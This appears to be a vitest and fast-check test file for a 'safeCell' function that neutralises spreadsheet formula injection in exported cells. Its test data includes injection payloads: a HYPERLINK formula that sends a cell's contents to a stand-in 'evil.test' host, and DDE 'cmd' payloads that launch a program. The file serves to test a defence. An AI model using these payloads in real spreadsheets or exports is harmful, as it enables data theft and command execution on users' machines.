import fc from 'fast-check'
import { expect, test } from 'vitest'
import { safeCell } from './safe-cell.ts'

test('what a spreadsheet would compute is shown as text', () => {
  for (const attack of [
    '=HYPERLINK("https://evil.test?"&A1)',
    '+cmd|"/c calc"!A0',
    '-2+3+cmd|"/c calc"!A0',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '＝1+1',
    '+7(912)345-67-89',
    '+79123456789,=1+1',
  ])
    expect(safeCell(attack), attack).toMatch(/^'/)
})

test('a formula behind a delimiter of another spreadsheet does not come through', () => {
  expect(safeCell('Иванов;=1+1')).toBe("Иванов;'=1+1")
  expect(safeCell('a,@SUM(A1)')).toBe("a,'@SUM(A1)")
  expect(safeCell('a\n-cmd()')).toBe("a\n'-cmd()")
})

test('phones, numbers and plain words stay usable', () => {
  for (const plain of [
    '+79123456789',
    '+79123456789, +74951234567',
    '-5',
    '-5.25',
    '12,5',
    'Купить:\n- молоко\n- хлеб',
    'a-b',
  ])
    expect(safeCell(plain)).toBe(plain)
})

test('whatever is given, nothing is left that begins a formula at the start of a cell, or of one that another delimiter makes', () => {
  const piece = fc.constantFrom('=', '+', '-', '@', ';', ',', '\t', '\n', '\r', '|', ' ', 'a', '1', '(', '＝', "'", '"')
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const text = pieces.join('')
      const safe = safeCell(text)
      if (safe === text && /^(-?\d+([.,]\d+)?|\+\d{5,15})$/.test(text)) return
      expect(safe).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/u)
      expect(safe).not.toMatch(/[,;\t|\r\n] *[=@+＝＠＋]/u)
    }),
    { numRuns: 300 },
  )
})
